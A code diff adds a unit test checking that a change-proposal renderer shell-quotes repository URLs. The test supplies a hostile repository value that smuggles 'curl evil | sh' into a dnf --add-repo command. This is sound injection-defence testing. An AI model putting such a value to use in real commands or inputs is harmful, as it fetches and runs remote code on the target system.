@@ -79,6 +79,14 @@ describe(renderChangeProposal.name, () => {
     expect(howTo).toContain('fleetlab-agent opt-in cow-test');
   });
 
+  it('quotes repositories in the shell commands, so a hostile one cannot run', () => {
+    const hostile = reportDataFixture();
+    hostile.experiment.arms[1]!.repos = ['https://x/ ; curl evil | sh'];
+    const howTo = renderChangeProposal(hostile);
+    expect(howTo).toContain("dnf config-manager --add-repo 'https://x/ ; curl evil | sh'");
+    expect(howTo).not.toMatch(/--add-repo https:\/\/x\/ ;/);
+  });
+
   it('lists the exact package versions of each arm', () => {
     expect(section('== Dependencies ==')).toContain(
       '| rpm || 4.16.1.3-34.el9 || 4.16.1.3-34.hs.el9',
